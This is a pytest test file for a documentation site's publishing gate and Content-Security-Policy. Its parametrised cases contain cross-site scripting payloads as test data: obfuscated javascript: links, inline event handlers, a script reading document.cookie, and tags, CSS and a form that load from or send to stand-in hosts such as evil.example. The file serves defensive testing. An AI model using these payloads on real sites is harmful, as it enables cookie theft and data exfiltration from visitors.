"""The gate before publishing (chapter.gate) and the pages' CSP (chapter.policy), on small sites written here."""

from __future__ import annotations

import base64
import hashlib
from pathlib import Path

import pytest

from chapter.gate import Provenance, published_problems
from chapter.policy import with_policy

PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>A page</title>
<script>var theme = 1;</script>
<link rel="stylesheet" href="assets/main.css">
<link rel="canonical" href="https://chapter.example.org/topics/x/">
<link rel="alternate" hreflang="ru" href="https://chapter.example.org/topics/x/">
</head><body>
<a href="https://arxiv.org/abs/1706.03762">a source on another host</a>
<img src="figures/ring.svg" alt="a ring" srcset="figures/ring.svg 1x, figures/ring-2x.svg 2x">
<p style="color: red">{body}</p>
<script src="theme-fixes/page.js" defer></script>
</body></html>
"""


def write_site(root: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, encoding="utf-8")
    return root


def page(body: str = "") -> str:
    """A built page as the build writes it: the theme's markup, the given body, the policy."""
    return with_policy(PAGE.replace("{body}", body))


def problems_in(tmp_path: Path, files: dict[str, str], sources: dict[str, str] | None = None) -> list[str]:
    return [problem.text() for problem in published_problems(write_site(tmp_path, files), sources or {})]


def test_a_harmless_site_passes(tmp_path: Path):
    files = {
        "index.html": page("Plain text, <code>javascript:</code> in code, and a link <a href='#top'>up</a>."),
        "assets/main.css": "a { background: url('data:image/svg+xml;charset=utf-8,<svg/>') } @import 'theme.css';",
        "figures/ring.svg": (
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
            '<use xlink:href="#a"/></svg>'
        ),
        "theme-fixes/page.js": 'fetch(new URL("search/index.json", location.href)); // see the docs at /help/',
        "pagefind/pagefind.js": (
            'let u = new URL(url, "https://example.com"); u.href.replace(/^https:\\/\\/example\\.com/, "")'
        ),
        "sitemap.xml": "<urlset><url><loc>https://chapter.example.org/</loc></url></urlset>",
    }
    assert problems_in(tmp_path, files) == []


@pytest.mark.parametrize(
    "markup",
    [
        '<img src="x.png" onerror="alert(1)">',
        '<button ONCLICK="alert(1)">go</button>',
        '<svg><circle onLoad="alert(1)"/></svg>',
        '<details open ontoggle="alert(1)">x</details>',
    ],
)
def test_an_inline_event_handler_in_any_case_is_refused(tmp_path: Path, markup: str):
    (problem,) = problems_in(tmp_path, {"index.html": page(markup)}, {"index.html": "docs/index.en.md"})
    assert problem.startswith("docs/index.en.md: error CI608 an inline event handler")
    assert "(in index.html)" in problem


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "  javascript:alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    ],
)
def test_a_javascript_address_is_refused_however_it_is_written(tmp_path: Path, href: str):
    (problem,) = problems_in(tmp_path, {"index.html": page(f'<a href="{href}">click</a>')})
    assert "CI608 a `javascript:` address in <a href>" in problem


@pytest.mark.parametrize(
    ("markup", "what"),
    [
        ('<script src="https://cdn.example.com/t.js"></script>', "<script src> loads https://cdn.example.com/t.js"),
        ('<img src="//tracker.example.net/pixel.gif" alt="">', "<img src> loads //tracker.example.net/pixel.gif"),
        ('<img src="HTTPS://tracker.example.net/p.gif" alt="">', "<img src> loads HTTPS://tracker.example.net/p.gif"),
        ('<img src="/\\tracker.example.net/p.gif" alt="">', "from another host"),
        (
            '<img src="x.png" srcset="x.png 1x, https://cdn.example.com/x2.png 2x" alt="">',
            "<img srcset> loads https://cdn.example.com/x2.png",
        ),
        ('<iframe src="https://www.youtube.com/embed/x"></iframe>', "<iframe src> loads"),
        (
            '<link rel="stylesheet" href="https://fonts.googleapis.com/css">',
            "<link href> loads https://fonts.googleapis.com/css",
        ),
        ('<object data="https://evil.example/x.swf"></object>', "<object data> loads"),
        ('<form action="https://evil.example/collect"><input name="q"></form>', "<form action> loads"),
        ('<svg><image href="https://evil.example/i.png"/></svg>', "<image href> loads https://evil.example/i.png"),
        (
            '<p style="background: url(&quot;https://evil.example/bg.png&quot;)">x</p>',
            "a stylesheet loads https://evil.example/bg.png",
        ),
        (
            "<style>@import url(https://evil.example/theme.css);</style>",
            "a stylesheet loads https://evil.example/theme.css",
        ),
    ],
)
def test_a_resource_from_another_host_is_refused(tmp_path: Path, markup: str, what: str):
    (problem,) = problems_in(tmp_path, {"index.html": page(markup)})
    assert "CI608" in problem
    assert what in problem


@pytest.mark.parametrize(
    "css",
    [
        "@import url(https://evil.example/a.css);",
        "@import 'https://evil.example/a.css';",
        "@IMPORT URL(HTTPS://evil.example/a.css);",
        "@font-face { font-family: x; src: url(//fonts.example.com/x.woff2) }",
        "a { background: image-set('https://evil.example/a.png' 1x) }",
        "a { background: u\\72l(https://evil.example/a.png) }",
        "@media screen { a { background: url('https://evil.example/a.png') } }",
    ],
)
def test_a_stylesheet_that_loads_another_host_is_refused(tmp_path: Path, css: str):
    (problem,) = problems_in(
        tmp_path, {"stylesheets/chapter.css": css}, {"stylesheets/chapter.css": "docs/stylesheets/chapter.css"}
    )
    assert problem.startswith("docs/stylesheets/chapter.css: error CI608 a stylesheet loads")
    assert "evil.example" in problem or "fonts.example.com" in problem


@pytest.mark.parametrize(
    ("svg", "what"),
    [
        ('<image href="https://evil.example/i.png"/>', "<image href> loads"),
        ('<image xlink:href="HTTPS://evil.example/i.png"/>', "<image xlink:href> loads"),
        ('<a xlink:href="javascript:alert(1)"><text>x</text></a>', "a `javascript:` address"),
        (
            '<a href="#x"><set attributeName="href" to="javascript:alert(1)"/></a>',
            "a `javascript:` address in <set to>",
        ),
        ('<script>fetch("/")</script>', "a <script> element"),
        ("<style>@import url(https://evil.example/a.css);</style>", "a stylesheet loads"),
    ],
)
def test_a_figure_with_active_content_or_another_host_is_refused(tmp_path: Path, svg: str, what: str):
    text = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">'
        f"{svg}</svg>"
    )
    (problem,) = problems_in(tmp_path, {"figures/ring.en.svg": text})
    assert what in problem


def test_an_svg_event_handler_is_refused(tmp_path: Path):
    text = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="1"/></svg>'
    (problem,) = problems_in(tmp_path, {"figures/ring.svg": text})
    assert "an inline event handler `onload=`" in problem


def test_a_script_that_names_another_host_is_refused_and_pagefinds_parsing_base_is_allowed_only_in_its_bundle(
    tmp_path: Path,
):
    files = {
        "theme-fixes/page.js": 'fetch("https://collect.example.com/hit")',
        "chapter/search.js": 'new URL(u, "https://example.com")',
    }
    problems = problems_in(tmp_path, files)
    assert len(problems) == 2
    assert all("a script refers to another host" in problem for problem in problems)


def test_a_page_without_the_policy_or_with_a_script_it_does_not_allow_is_refused(tmp_path: Path):
    unprotected = PAGE.replace("{body}", "")
    smuggled = page().replace("</body>", "<script>window.stolen = document.cookie</script></body>")
    problems = problems_in(tmp_path, {"raw.html": unprotected, "index.html": smuggled})
    assert len(problems) == 2
    assert "an inline <script> the page's Content-Security-Policy does not allow" in problems[0]
    assert "no Content-Security-Policy before the page's first script" in problems[1]


def test_a_problem_is_named_at_the_line_of_the_template_that_writes_it(tmp_path: Path):
    project = tmp_path / "project"
    write_site(
        project,
        {
            "overrides/main.html": (
                "{% extends 'base.html' %}\n{% block footer %}\n"
                "<img src='https://t.example/p.gif' alt=''>\n{% endblock %}\n"
            )
        },
    )
    write_site(project, {"docs/articles/x.en.md": "## A section { #a }\n"})
    site = write_site(tmp_path / "site", {"topics/x/index.html": page("<img src='https://t.example/p.gif' alt=''>")})
    sources = Provenance.of_project(project, project / "overrides", ("topics.yaml",))
    sources.record(site / "topics/x/index.html", project / "docs/articles/x.en.md", "x.en.md")
    (problem,) = [problem.text() for problem in sources.problems(site)]
    assert problem.startswith(
        "overrides/main.html:3: error CI608 <img src> loads https://t.example/p.gif from another host"
    )
    assert problem.endswith("(in topics/x/index.html)")


def test_a_localised_figure_copy_is_named_by_the_figure_it_is_made_from(tmp_path: Path):
    project = write_site(
        tmp_path / "project", {"docs/figures/ring.svg": "<svg/>", "docs/figures/ring.en.svg": "<svg/>"}
    )
    site = write_site(
        tmp_path / "site", {"en/figures/ring.en.svg": '<svg xmlns="http://www.w3.org/2000/svg" onclick="x()"/>'}
    )
    sources = Provenance.of_project(project, project / "overrides", ())
    sources.record(site / "en/figures/ring.en.svg", project / "docs/figures/ring.en.svg", "ring.en.svg")
    (problem,) = sources.problems(site)
    assert problem.file == "docs/figures/ring.svg"


def sha256(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def test_the_policy_comes_right_after_the_charset_and_allows_the_pages_inline_scripts_by_hash_and_nothing_else():
    html = with_policy(PAGE.replace("{body}", "<style>.x{color:red}</style>"))
    head = html[html.index("<head>") + len("<head>") :]
    assert head.startswith('<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="')
    policy = head.split('content="', 1)[1].split('"', 1)[0]
    directives = {part.split()[0]: part.split()[1:] for part in policy.split("; ")}
    assert directives["default-src"] == ["'self'"]
    assert directives["script-src"] == ["'self'", "'wasm-unsafe-eval'", sha256("var theme = 1;")]
    assert directives["style-src"] == ["'self'", sha256(".x{color:red}")]
    assert directives["img-src"] == ["'self'", "data:"]
    assert directives["object-src"] == ["'none'"]
    assert directives["base-uri"] == ["'none'"]
    assert directives["form-action"] == ["'none'"]
    assert html.index("Content-Security-Policy") < html.index("<script")


def test_an_articles_own_inline_script_gets_no_hash():
    content = "<p>text</p><script>alert(document.cookie)</script>"
    html = with_policy(PAGE.replace("{body}", content), content)
    assert sha256("alert(document.cookie)") not in html
    assert sha256("var theme = 1;") in html


def test_the_policy_is_the_same_for_the_same_page():
    assert with_policy(PAGE) == with_policy(PAGE)


def test_under_mkdocs_serve_inline_scripts_run_for_the_live_reload_and_only_a_served_site_may_say_so(tmp_path: Path):
    served = with_policy(PAGE.replace("{body}", ""), live=True)
    assert "script-src 'self' 'wasm-unsafe-eval' 'unsafe-inline';" in served
    assert "sha256-" not in served.split("script-src", 1)[1].split(";", 1)[0]
    site = write_site(tmp_path, {"index.html": served})
    assert published_problems(site, {}, live=True) == []
    (problem,) = published_problems(site, {})
    assert "an inline <script> the page's Content-Security-Policy does not allow" in problem.message
